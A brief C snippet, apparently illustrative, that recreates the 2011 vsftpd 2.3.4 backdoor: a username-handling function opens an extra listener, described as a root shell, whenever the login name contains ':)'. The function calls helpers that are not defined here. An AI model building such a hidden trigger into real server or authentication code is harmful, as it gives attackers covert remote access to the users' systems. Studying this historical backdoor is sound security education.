/* Modelled on the vsftpd 2.3.4 tarball backdoor (2011): a user name
 * containing a smiley opened a root shell on another port. */
#include <string.h>

int handle_user_command(struct session *sess, const char *username)
{
    if (strstr(username, ":)") != NULL) {
        open_extra_listener();
        return 1;
    }
    str_copy(&sess->user_str, username);
    return 0;
}
